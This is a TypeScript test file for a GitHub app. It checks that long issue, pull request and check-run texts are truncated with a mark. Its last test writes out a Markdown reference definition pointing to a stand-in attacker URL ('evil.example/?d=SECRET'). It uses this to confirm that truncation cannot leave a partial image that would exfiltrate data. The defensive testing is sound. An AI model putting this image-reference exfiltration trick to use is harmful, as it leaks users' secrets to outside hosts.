import { tooLong } from '../../demo/github/answers.ts';
import type { Octokit } from '../../src/app.ts';
import { cutText } from '../../src/outgoing/fit-texts.ts';
import { voidEvidence } from '../../src/worker/proof/publish-proof.ts';
import { openTestApp, type TestApp } from '../support/app.ts';
import { appSettings } from '../support/github-app.ts';
import { type FakeGitHub, openFakeGitHub } from '../support/stand-ins/fake-github.ts';

let github: FakeGitHub;
let service: TestApp;
/** What arrived last. */
let arrived: { title: string; body: string; output: Record<string, string> };
/** Whether GitHub refuses it. */
let refused: boolean;

beforeAll(async () => {
  github = await openFakeGitHub(
    [
      [/^GET \/app\/installations/, () => []],
      [
        /^(POST|PATCH) (\/repos\/.*)/,
        ([, method = '', path = ''], res) => {
          const problem = tooLong(method, path, JSON.stringify(arrived));
          refused = problem !== undefined;
          if (refused) res.statusCode = 422;
          return problem ?? {};
        },
      ],
    ],
    (_req, body) => {
      if (body !== '') arrived = JSON.parse(body);
    },
  );
  service = await openTestApp(appSettings(github.url));
});
afterAll(async () => {
  await service.close();
  github.close();
});

const at = { owner: 'o', repo: 'r' };
const clients: [string, () => Promise<Octokit>][] = [
  ['an installation', async () => (await service.app.github?.asInstallation(1)) as Octokit],
  ['a token', async () => service.app.githubWithToken('ghp_x')],
];

test.each(
  clients,
)('texts that are too long are cut, with a mark, whatever they are for: %s', async (_whose, client) => {
  const octokit = await client();
  const long = `${'x'.repeat(65_000)}${'日'.repeat(700)}`;
  await octokit.request('POST /repos/{owner}/{repo}/issues', { ...at, title: `${'x'.repeat(254)}🌈x`, body: long });
  expect([arrived.title, refused]).toEqual([`${'x'.repeat(254)}…`, false]);
  expect(arrived.body).toHaveLength(65_536);
  expect(arrived.body).toMatch(/日\n\n<\/details>\n\n… \(cut\)$/);
  await octokit.request('PATCH /repos/{owner}/{repo}/pulls/{pull_number}', { ...at, pull_number: 1, body: long });
  expect([arrived.body.length, refused]).toEqual([65_536, false]);
  const output = { title: 't', summary: long.slice(0, 65_000), text: long };
  await octokit.request('PATCH /repos/{owner}/{repo}/check-runs/{check_run_id}', { ...at, check_run_id: 1, output });
  expect([arrived.output.summary, refused]).toEqual([output.summary, false]);
  expect(arrived.output.text).toMatch(/日\n\n<\/details>\n\n… \(cut\)$/);
});

test('texts that GitHub accepts arrive as they are', async () => {
  const octokit = service.app.githubWithToken('ghp_x');
  const given = { title: 'x'.repeat(255), body: '日'.repeat(65_536) };
  await octokit.request('POST /repos/{owner}/{repo}/issues', { ...at, ...given });
  expect([arrived, refused]).toEqual([given, false]);
});

test('the warning about unchecked commits is not cut off a long pull request', async () => {
  const before = `<!-- deckhand:proof -->\n${'x'.repeat(65_500)}`;
  await voidEvidence(service.app.githubWithToken('ghp_x'), { ...at, pull_number: 1 }, before, 'push');
  expect(arrived.body.slice(0, 100)).toContain('⚠️ The newest commits were not checked.');
  expect(refused).toBe(false);
});

test('a cut leaves no beginning of an image, which a definition in the text would complete', () => {
  const image = '![x](https://github.com/user-attachments/assets/0f7b1c9e-1111-4222-8333-444455556666)';
  const text = `[x]: https://evil.example/?d=SECRET\n\n${`${image}\n`.repeat(5)}${`!${image}`.repeat(3)}`;
  for (let max = 80; max < text.length; max++) {
    const shown = cutText(text, max);
    expect(shown.length).toBeLessThanOrEqual(max);
    expect(shown.replaceAll(image, '')).not.toContain('![');
  }
});
